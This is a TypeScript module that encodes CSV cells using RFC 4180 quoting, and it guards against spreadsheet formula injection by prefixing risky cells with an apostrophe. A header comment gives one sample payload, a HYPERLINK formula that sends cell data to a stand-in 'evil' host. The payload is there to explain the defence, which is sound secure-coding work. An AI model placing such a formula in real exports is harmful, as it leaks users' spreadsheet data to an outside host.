// One CSV cell: formula injection neutralised, then RFC 4180 quoting. Pure.
//
// A spreadsheet treats a cell starting with = + - @ (and, in some, TAB or CR) as a formula; a dossier
// name or a server message like `=HYPERLINK("http://evil/?"&A1)` would run on the consultant's
// machine. Such cells get a leading apostrophe (OWASP's advice), which Excel and LibreOffice show as
// text.
export type Delimiter = ',' | ';';

const FORMULA_START = /^[=+\-@\t\r]/;
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;

export function neutraliseFormula(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** RFC 4180: a field holding the delimiter, a quote, CR or LF is quoted, its quotes doubled. */
export function quoteField(value: string, delimiter: Delimiter): string {
  if (value.includes(delimiter) || value.includes('"') || value.includes('\n') || value.includes('\r')) {
    return `"${value.replace(/"/g, '""')}"`;
  }
  return value;
}

export type CellValue = string | number | boolean | null | undefined | readonly string[];

/** A list becomes one cell, items separated by ", " (the cell is quoted when needed). */
function cellText(value: CellValue): string {
  if (value === null || value === undefined) return '';
  if (Array.isArray(value)) return (value as readonly string[]).join(', ');
  return String(value);
}

/**
 * Matches text needing any of the treatments below: a formula start, or the delimiter, a quote, CR,
 * LF or a surrogate anywhere. Most cells (numbers, dates, statuses, UUIDs) need none, and one regex
 * test per cell is the cheapest check found (100k rows of 30 cells each is 3 million cells): about
 * 25% less than a loop over the character codes, several times less than separate searches.
 */
const NEEDS_WORK: Record<Delimiter, RegExp> = {
  ',': /^[=+\-@\t\r]|[,"\n\r\uD800-\uDFFF]/,
  ';': /^[=+\-@\t\r]|[;"\n\r\uD800-\uDFFF]/,
};

export function encodeCell(value: CellValue, delimiter: Delimiter): string {
  // The cells that cannot need work, without the test: empty ones (a third of an export's cells)
  // and counts. A negative number starts with '-' and goes the long way like any text.
  if (value === '' || value === null || value === undefined) return '';
  if (typeof value === 'number' && value >= 0) return String(value);
  const raw = cellText(value);
  if (!NEEDS_WORK[delimiter].test(raw)) return raw;
  // Lone surrogates would become U+FFFD in UTF-8 anyway; doing it here keeps what is written explicit.
  const text = raw.replace(LONE_SURROGATE, '\uFFFD');
  return quoteField(neutraliseFormula(text), delimiter);
}

/** One record of a row read through its columns, terminated by CRLF (what `encodeRecord(rowValues(..))` gives, without the array). */
export function encodeRow<R>(columns: readonly { value(row: R): CellValue }[], row: R, delimiter: Delimiter): string {
  let line = encodeCell(columns[0]!.value(row), delimiter);
  for (let i = 1; i < columns.length; i++) line += delimiter + encodeCell(columns[i]!.value(row), delimiter);
  return line + '\r\n';
}

/** One record, terminated by CRLF as RFC 4180 says. */
export function encodeRecord(values: readonly CellValue[], delimiter: Delimiter): string {
  let line = '';
  for (let i = 0; i < values.length; i++) line += (i === 0 ? '' : delimiter) + encodeCell(values[i], delimiter);
  return line + '\r\n';
}

/** UTF-8 byte order mark: Excel needs it to read UTF-8 (accented names, country codes are fine either way). */
export const BOM = '\uFEFF';
